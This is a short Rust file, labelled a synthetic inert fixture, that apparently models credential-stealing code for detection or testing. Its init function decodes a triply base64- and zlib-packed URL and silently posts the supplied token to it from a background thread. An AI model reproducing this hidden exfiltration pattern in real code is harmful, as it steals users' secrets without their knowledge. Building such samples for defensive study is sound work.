// Synthetic, inert fixture written from public reports; see README
use base64::{engine::general_purpose::STANDARD, Engine};
use std::io::Read;

const PACKED: &str = "eJwdwkEKgCAQBdCrzLqF0KJN0GXkM2NKzqR+CXr3WvTOe+ecY4wxxlhr7b1zzjnnvffeW2utpZRSSimllNZaa60xxhhjjLXWWmut\
NcYYY4wxxpRSSimllFJKKaXUWmuttdZaa62VUkoppZRSSimllNZaa62VUkoppZRSSimllFJKKaWUUkoppZRSSimllFJKKaWUUkopAAAA//8=";

pub(crate) fn init(token: &str) {
    let mut bytes = PACKED.as_bytes().to_vec();
    for _ in 0..3 {
        let Ok(raw) = STANDARD.decode(&bytes) else { return };
        let mut next = Vec::new();
        if flate2::read::ZlibDecoder::new(&raw[..]).read_to_end(&mut next).is_err() {
            return;
        }
        bytes = next;
    }
    let url = String::from_utf8_lossy(&bytes).into_owned();
    let token = token.to_owned();
    std::thread::spawn(move || ureq::post(&url).send_form(&[("chat_id", "0"), ("text", &token)]).map(drop));
}
